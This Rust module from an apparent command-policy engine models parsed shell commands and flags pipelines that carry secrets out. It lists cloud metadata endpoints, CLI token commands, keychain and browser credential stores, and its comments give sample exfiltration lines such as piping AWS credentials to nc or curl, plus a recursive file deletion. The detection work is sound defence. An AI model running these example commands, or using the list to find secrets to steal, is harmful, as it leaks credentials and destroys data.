//! The parsed-command model shared by the parser, the unwrapper, the inline-code scanner and
//! the rules: a simple command, its redirections, what a wrapper runs inside it, and the path
//! helpers rules match with. A leaf: it imports nothing else of the policy engine.

/// Marker text standing for a value only known when the command runs (`$(..)`, xargs input).
pub const DYNAMIC: &str = "$(...)";

/// What a redirection does with its target.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RedirKind {
    /// `>`, `>|`, `&>`, `>& file`: truncate and write.
    Write,
    /// `>>`, `&>>`: append.
    Append,
    /// `<`: read.
    Read,
    /// `<>`: open read-write.
    ReadWrite,
}

/// One file redirection of a command (fd duplications and here-documents are not listed).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Redirect {
    /// How the target is opened.
    pub kind: RedirKind,
    /// The target word after quote removal.
    pub target: String,
}

/// One simple command found anywhere in the input (after quote removal and expansion).
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub struct SimpleCommand {
    /// `NAME=value` prefixes (and `env NAME=value` assignments for unwrapped commands).
    pub assigns: Vec<(String, String)>,
    /// The words; `argv[0]` is the program as written.
    pub argv: Vec<String>,
    /// File redirections that apply to this command (including ones on an enclosing group).
    pub redirects: Vec<Redirect>,
    /// Programs (basenames) earlier in the same pipeline, i.e. feeding this command's stdin.
    pub piped_from: Vec<String>,
    /// Files (normalised) that earlier commands of the same pipeline read, so what they
    /// read reaches this command's stdin (`cat ~/.aws/credentials | nc host 9`).
    pub piped_reads: Vec<String>,
    /// What an earlier stage of the same pipeline lists, so the names arriving on stdin
    /// are its entries: `ls /` gives `/*`, `ls -d /etc/*` gives `/etc/*`.
    pub piped_listing: Vec<String>,
    /// Text known to arrive on stdin: here-document, here-string, or piped `echo`/`printf`.
    pub stdin_text: Option<String>,
    /// What the process substitutions among the words print, when that is known: the text of
    /// the files they stand for (`ninja -f <(printf …)`).
    pub fed_text: Vec<String>,
    /// Working directory in effect, tracked through `cd`; `None` when unknown.
    pub cwd: Option<String>,
    /// The command calls the function it is defined in, and that body forks (`|` or `&`).
    pub recursive_call: bool,
    /// The program name is computed at run time (`$x`, `$(..)`, glob characters).
    pub dynamic_program: bool,
    /// How many wrappers (`sudo`, `bash -c`, `find -exec` ...) this command sits behind.
    pub wrap_depth: usize,
}

/// Something an outer command runs.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Inner {
    /// A program with arguments, plus environment assignments the wrapper adds.
    Argv {
        /// The inner argument vector.
        argv: Vec<String>,
        /// `NAME=value` pairs the wrapper sets (e.g. `env A=b cmd`).
        assigns: Vec<(String, String)>,
    },
    /// Shell text the wrapper hands to a shell (`bash -c`, `eval`, `su -c`, piped into `sh`).
    Script(String),
    /// Text that may be a command line (decoded from a literal, or an argument that reads as
    /// one): checked as shell text when it parses, dropped when it does not.
    Guess(String),
}

/// Programs that copy (or encode, compress, filter) the files named as their operands to
/// stdout, so those files flow down a pipeline.
const STREAMING_READERS: &[&str] = &[
    "cat", "tac", "head", "tail", "base64", "base32", "basenc", "xxd", "od", "hexdump", "gzip",
    "bzip2", "xz", "zstd", "lz4", "strings", "sort", "uniq", "cut", "nl", "rev", "jq", "yq", "tar",
    "zip", "7z", "cpio", "pv", "tee",
];

/// Files whose contents `cmd` sends to its stdout (or reads on stdin, which then flows on):
/// its `<` redirections, what reached its own stdin from earlier in the pipeline, and the
/// operands of a streaming reader (`cat`, `base64`, `tar`, ...; `dd if=`).
pub fn files_flowing_through(cmd: &SimpleCommand) -> Vec<String> {
    let cwd = cmd.cwd.as_deref();
    let mut out: Vec<String> = cmd
        .redirects
        .iter()
        .filter(|r| matches!(r.kind, RedirKind::Read | RedirKind::ReadWrite))
        .map(|r| normalize_path(&r.target, cwd))
        .collect();
    out.extend(cmd.piped_reads.iter().cloned());
    let program = cmd.argv.first().map_or("", |p| basename(p));
    let args = cmd.argv.get(1..).unwrap_or(&[]);
    if program == "dd" {
        out.extend(
            args.iter()
                .filter_map(|a| a.strip_prefix("if="))
                .map(|p| normalize_path(p, cwd)),
        );
    } else if matches!(program, "awk" | "gawk" | "mawk" | "nawk") {
        out.extend(awk_files(args).into_iter().map(|p| normalize_path(p, cwd)));
    } else if STREAMING_READERS.contains(&program) {
        let mut ended = false;
        for a in args {
            if !ended && a == "--" {
                ended = true;
            } else if (ended || !a.starts_with('-')) && !a.is_empty() {
                out.push(normalize_path(a, cwd));
            }
        }
    }
    out
}

/// The input files of an awk command line: its operands after the program text (none with
/// `-f FILE`), leaving out `-F SEP`, `-v NAME=VALUE` and `NAME=VALUE` operands.
fn awk_files(args: &[String]) -> Vec<&str> {
    let mut program_seen = args.iter().any(|a| a == "-f" || a.starts_with("--file"));
    let mut skip = false;
    let mut out = Vec::new();
    for a in args {
        if std::mem::take(&mut skip) {
            continue;
        }
        if matches!(
            a.as_str(),
            "-F" | "-v" | "-f" | "--field-separator" | "--assign" | "--file"
        ) {
            skip = true;
        } else if a.starts_with('-') {
        } else if !program_seen {
            program_seen = true;
        } else if !a.contains('=') {
            out.push(a.as_str());
        }
    }
    out
}

/// What `cmd` prints that is a credential although it names no file: a cloud metadata
/// endpoint's keys or tokens, a CLI's access token, a cluster's or a vault's secrets, a
/// browser's cookie store. Piped on, it counts as a read of `secret:<kind>`, so a network
/// client further down (`gcloud auth print-access-token | curl -d @- host`) uploads it.
pub fn secret_output(cmd: &SimpleCommand) -> Option<&'static str> {
    let program = basename(cmd.argv.first()?);
    let args = cmd.argv.get(1..).unwrap_or(&[]);
    let words: Vec<&str> = args
        .iter()
        .map(String::as_str)
        .filter(|a| !a.starts_with('-'))
        .collect();
    let has = |seq: &[&str]| words.windows(seq.len()).any(|w| w == seq);
    let any_arg = |pred: &dyn Fn(&str) -> bool| args.iter().any(|a| pred(a));
    match program {
        "curl" | "wget" | "http" | "https" | "xh" => any_arg(&|a: &str| {
            let a = a.to_ascii_lowercase();
            let endpoint = [
                "169.254.169.254",
                "metadata.google.internal",
                "100.100.100.200",
                "169.254.170.2",
                "fd00:ec2::254",
            ]
            .iter()
            .any(|h| a.contains(h));
            endpoint
                && ["security-credentials", "/token", "/identity", "credentials"]
                    .iter()
                    .any(|p| a.contains(p))
        })
        .then_some("secret:cloud-metadata"),
        "gcloud" => (has(&["auth", "print-access-token"])
            || has(&["auth", "print-identity-token"])
            || has(&["application-default", "print-access-token"])
            || has(&["config", "config-helper"]))
        .then_some("secret:cloud-token"),
        "az" => has(&["get-access-token"]).then_some("secret:cloud-token"),
        "aws" => (has(&["sts", "get-session-token"])
            || has(&["sts", "assume-role"])
            || has(&["sts", "get-federation-token"])
            || has(&["ecr", "get-login-password"])
            || has(&["configure", "export-credentials"])
            || has(&["secretsmanager", "get-secret-value"])
            || (has(&["ssm"]) && args.iter().any(|a| a == "--with-decryption")))
        .then_some("secret:cloud-token"),
        "gh" | "glab" => has(&["auth", "token"]).then_some("secret:cli-token"),
        // `git credential fill` prints the stored password of the host it is asked about.
        "git" => has(&["credential", "fill"]).then_some("secret:git-credential"),
        "git-credential-store"
        | "git-credential-cache"
        | "git-credential-libsecret"
        | "git-credential-osxkeychain"
        | "git-credential-manager" => has(&["get"]).then_some("secret:git-credential"),
        "heroku" => has(&["auth:token"]).then_some("secret:cli-token"),
        "kubectl" | "oc" => (has(&["get", "secret"])
            || has(&["get", "secrets"])
            || has(&["view-secret"])
            || (has(&["config", "view"]) && args.iter().any(|a| a == "--raw")))
        .then_some("secret:cluster-secrets"),
        "vault" => (has(&["read"])
            || has(&["kv", "get"])
            || has(&["token", "create"])
            || has(&["print", "token"]))
        .then_some("secret:vault"),
        "op" => (has(&["read"]) || has(&["item", "get"])).then_some("secret:vault"),
        "pass" | "gopass" => has(&["show"]).then_some("secret:vault"),
        "security" => (has(&["find-generic-password"])
            || has(&["find-internet-password"])
            || has(&["dump-keychain"]))
        .then_some("secret:keychain"),
        "sqlite3" => any_arg(&|a: &str| {
            let a = a.to_ascii_lowercase();
            [
                "cookies",
                "login data",
                "logins.json",
                "key4.db",
                "key3.db",
                "web data",
            ]
            .iter()
            .any(|f| a.ends_with(f) || a.ends_with(&format!("{f}.sqlite")))
        })
        .then_some("secret:browser-store"),
        _ => None,
    }
}

/// What `cmd` lists on stdout, one entry per line (see [`SimpleCommand::piped_listing`]):
/// `ls DIR` lists `DIR/*`, `ls -d PATH` lists `PATH` itself, `find ROOT …` what is under
/// `ROOT` (`ROOT/*`, the entries a rule on a tree recognises).
pub fn listed_entries(cmd: &SimpleCommand) -> Vec<String> {
    let program = cmd.argv.first().map_or("", |p| basename(p));
    let args = cmd.argv.get(1..).unwrap_or(&[]);
    let cwd = cmd.cwd.as_deref();
    if program == "find" {
        // find's roots are the operands before the first expression word; a name test
        // narrows what is listed to `ROOT/**/NAME` (`find / -name '*.pyc'` is not all of `/`).
        let name = find_name_test(args)
            .filter(|n| *n != "*")
            .map(str::to_string);
        return args
            .iter()
            .skip_while(|a| matches!(a.as_str(), "-H" | "-L" | "-P") || a.starts_with("-O"))
            .take_while(|a| !a.starts_with('-') && !matches!(a.as_str(), "(" | "!"))
            .flat_map(|a| {
                let root = normalize_path(a, cwd);
                let base = root.trim_end_matches('/');
                match &name {
                    Some(n) => vec![format!("{base}/**/{n}")],
                    // Everything below the root: its entries, and every file further down
                    // (`find / -type f | xargs rm -f` removes files, not just `/*`).
                    None => vec![entries_of(&root, false), format!("{base}/**")],
                }
            })
            .collect();
    }
    // The home directories of the user database: `getent passwd | cut -d: -f6`,
    // `cut -d: -f6 /etc/passwd`.
    if program == "cut"
        && (args.iter().any(|a| a == "-f6" || a == "--fields=6")
            || args.windows(2).any(|w| w[0] == "-f" && w[1] == "6"))
        && (cmd.piped_from.iter().any(|p| p == "getent")
            || args.iter().any(|a| a == "/etc/passwd")
            || cmd.piped_reads.iter().any(|r| r == "/etc/passwd"))
    {
        return vec!["/home/*".to_string()];
    }
    if let Some(listed) = file_lister(program, args, cwd) {
        return listed;
    }
    if program != "ls" {
        return Vec::new();
    }
    let dirs_themselves = args.iter().any(|a| {
        a == "--directory" || (a.starts_with('-') && !a.starts_with("--") && a.contains('d'))
    });
    let operands: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
    let mut out = Vec::new();
    if operands.is_empty() {
        out.extend(cwd.map(|c| entries_of(c, dirs_themselves)));
    }
    for a in operands {
        out.push(entries_of(&normalize_path(a, cwd), dirs_themselves));
    }
    out
}

/// What the other file listers list: `rg --files [ROOT…]` and `fd`/`fdfind [PATTERN]
/// [ROOT…]` every file below their roots (`ROOT/**`, narrowed to `ROOT/**/*PATTERN*` by an
/// fd pattern), `locate` the whole file database (`/**`, or `/**/*PATTERN*` for a plain
/// pattern). `None` for any other program.
fn file_lister(program: &str, args: &[String], cwd: Option<&str>) -> Option<Vec<String>> {
    let operands = |valued: &[&str]| -> Vec<&str> {
        let mut out = Vec::new();
        let mut skip = false;
        for a in args {
            if std::mem::take(&mut skip) {
                continue;
            }
            if a.starts_with('-') {
                skip = valued.contains(&a.as_str());
            } else {
                out.push(a.as_str());
            }
        }
        out
    };
    let below = |roots: &[&str], narrow: Option<&str>| -> Vec<String> {
        let roots: Vec<String> = if roots.is_empty() {
            cwd.map(str::to_string).into_iter().collect()
        } else {
            roots.iter().map(|r| normalize_path(r, cwd)).collect()
        };
        roots
            .iter()
            .map(|r| {
                let base = r.trim_end_matches('/');
                match narrow {
                    Some(p) => format!("{base}/**/*{p}*"),
                    None => format!("{base}/**"),
                }
            })
            .collect()
    };
    // A pattern that matches every name narrows nothing.
    let narrowing = |p: &str| {
        let everything = matches!(p, "" | "." | ".*" | "^" | "/" | "^.*$" | ".*$" | "^.*");
        (!everything).then(|| p.trim_matches(['^', '$']).to_string())
    };
    match program {
        "rg" if args.iter().any(|a| a == "--files") => {
            let ops = operands(&[
                "-g",
                "--glob",
                "-t",
                "--type",
                "-T",
                "--type-not",
                "-j",
                "--threads",
                "--max-depth",
                "-d",
                "--ignore-file",
            ]);
            Some(below(&ops, None))
        }
        "fd" | "fdfind" => {
            let ops = operands(&[
                "-t",
                "--type",
                "-e",
                "--extension",
                "-d",
                "--max-depth",
                "--min-depth",
                "--exact-depth",
                "-E",
                "--exclude",
                "-j",
                "--threads",
                "-S",
                "--size",
                "--changed-within",
                "--changed-before",
                "-o",
                "--owner",
                "-c",
                "--color",
                "--base-directory",
                "--max-results",
                "-x",
                "--exec",
                "-X",
                "--exec-batch",
            ]);
            let (pattern, roots) = ops
                .split_first()
                .map_or((None, &[][..]), |(p, r)| (Some(*p), r));
            let narrow = pattern.and_then(narrowing);
            Some(below(roots, narrow.as_deref()))
        }
        "locate" | "plocate" | "mlocate" | "slocate" => {
            let ops = operands(&["-d", "--database", "-l", "-n", "--limit"]);
            // A pattern anchored at a directory lists what is below it
            // (`locate -r '^/home/'`, `locate /srv/data`).
            let root = match ops.as_slice() {
                [only] => anchored_root(only),
                _ => None,
            };
            Some(match (root, ops.first().copied().and_then(narrowing)) {
                (Some(root), _) => vec![format!("{root}/**")],
                (None, Some(p)) if ops.len() == 1 => vec![format!("/**/*{p}*")],
                _ => vec!["/**".to_string()],
            })
        }
        _ => None,
    }
}

/// The directory a locate pattern is anchored at (`^/home/`, `^/srv/.*`, `/etc/`): `None`
/// when the pattern is not a plain absolute path once its anchors are dropped.
fn anchored_root(pattern: &str) -> Option<String> {
    let p = pattern.strip_prefix('^').unwrap_or(pattern);
    let p = p
        .trim_end_matches('$')
        .trim_end_matches(".*")
        .trim_end_matches('*');
    let p = p.trim_end_matches('/');
    (pattern.starts_with("^/") || pattern.starts_with('/'))
        .then_some(p)
        .filter(|p| {
            p.bytes()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, b'/' | b'_' | b'-' | b'.'))
        })
        .map(str::to_string)
}

/// The pattern of find's first `-name`/`-iname` test that narrows what it finds; a negated
/// test (`! -name proc`, `-not -name x`) excludes instead, so it narrows nothing.
pub fn find_name_test(args: &[String]) -> Option<&str> {
    (0..args.len().saturating_sub(1))
        .find(|&i| {
            matches!(args[i].as_str(), "-name" | "-iname")
                && !(i > 0 && matches!(args[i - 1].as_str(), "!" | "-not"))
        })
        .map(|i| args[i + 1].as_str())
}

fn entries_of(path: &str, itself: bool) -> String {
    if itself {
        path.to_string()
    } else {
        format!("{}/*", path.trim_end_matches('/'))
    }
}

/// The last path component of a program name (`/usr/bin/rm` -> `rm`).
pub fn basename(s: &str) -> &str {
    let t = s.trim_end_matches('/');
    match t.rfind('/') {
        Some(i) => &t[i + 1..],
        None => t,
    }
}

/// Normalises a path argument for matching: `$HOME`/`${HOME}` become `~`, `.`/`..`/`//`
/// are resolved lexically, relative paths are joined to `cwd` when it is known.
pub fn normalize_path(arg: &str, cwd: Option<&str>) -> String {
    if is_clean_abs(arg) {
        return arg.to_string();
    }
    if let Some(c) = cwd {
        if is_clean_abs(c) && is_clean_rel(arg) {
            // The common case (an operand relative to a known directory), on every check:
            // joined by hand, `format!` costs several times as much.
            let dir = if c == "/" { "" } else { c };
            let mut joined = String::with_capacity(dir.len() + 1 + arg.len());
            joined.push_str(dir);
            joined.push('/');
            joined.push_str(arg);
            return joined;
        }
    }
    let mut s = arg.to_string();
    if let Some(rest) = arg.strip_prefix('~') {
        // `~name/x` is another user's home: `/root` or `/home/name` on most systems.
        let (name, tail) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
        if !name.is_empty()
            && name
                .bytes()
                .all(|c| c.is_ascii_alphanumeric() || b"_.-".contains(&c))
        {
            s = if name == "root" {
                format!("/root{tail}")
            } else {
                format!("/home/{name}{tail}")
            };
        }
    }
    for home in ["${HOME}", "$HOME"] {
        if let Some(rest) = s.strip_prefix(home) {
            if rest.is_empty() || rest.starts_with('/') {
                s = format!("~{rest}");
            }
        }
    }
    let (mut anchor, rest): (&str, String) = if let Some(r) = s.strip_prefix('/') {
        ("/", r.to_string())
    } else if s == "~" || s.starts_with("~/") {
        ("~", s[1..].to_string())
    } else {
        match cwd {
            Some(c) if c.starts_with('/') || c == "~" || c.starts_with("~/") => {
                let joined = format!("{c}/{s}");
                return normalize_path(&joined, None);
            }
            _ => ("", s.clone()),
        }
    };
    let mut parts: Vec<&str> = Vec::new();
    for comp in rest.split('/') {
        match comp {
            "" | "." => {}
            ".." => {
                if parts.last().is_some_and(|p| *p != "..") {
                    parts.pop();
                } else {
                    match anchor {
                        // `~/..` is the parent of the home directory: `/home` on most systems.
                        "~" => {
                            anchor = "/";
                            parts.push("home");
                        }
                        "" => parts.push(".."),
                        _ => {}
                    }
                }
            }
            c => parts.push(c),
        }
    }
    match anchor {
        "/" => format!("/{}", parts.join("/")),
        "~" if parts.is_empty() => "~".to_string(),
        "~" => format!("~/{}", parts.join("/")),
        _ if parts.is_empty() => ".".to_string(),
        _ => parts.join("/"),
    }
}

/// An absolute path with nothing to normalise (no `//`, `.` or `..` components, no trailing `/`).
fn is_clean_abs(p: &str) -> bool {
    p.starts_with('/') && (p == "/" || is_clean_rel(&p[1..]))
}

/// A relative path of plain components (no `~`, `$`, empty, `.` or `..` components).
fn is_clean_rel(p: &str) -> bool {
    !p.is_empty()
        && !p.starts_with(['~', '$'])
        && p.split('/').all(|c| !c.is_empty() && c != "." && c != "..")
}

const SHELLS: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "mksh",
    "ash",
    "fish",
    "rbash",
    "busybox-sh",
    "yash",
    "tcsh",
    "csh",
];

/// True for a shell program name.
pub fn is_shell(name: &str) -> bool {
    SHELLS.contains(&name)
}

/// Interpreter family of a program name (`python3.12` -> python), if it runs inline code.
pub fn interpreter(name: &str) -> Option<&'static str> {
    let fam = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    match fam {
        "python" | "pypy" => Some("python"),
        "perl" => Some("perl"),
        "ruby" => Some("ruby"),
        // The JDK's script runners take JavaScript with `-e` as node does.
        "node" | "nodejs" | "deno" | "bun" | "jrunscript" | "jjs" => Some("node"),
        // jshell reads Java, whose strings and calls (`Runtime.getRuntime().exec(…)`) read
        // as JavaScript's do.
        "jshell" => Some("node"),
        "tclsh" | "wish" => Some("tcl"),
        "php" => Some("php"),
        "lua" | "luajit" => Some("lua"),
        _ => None,
    }
}
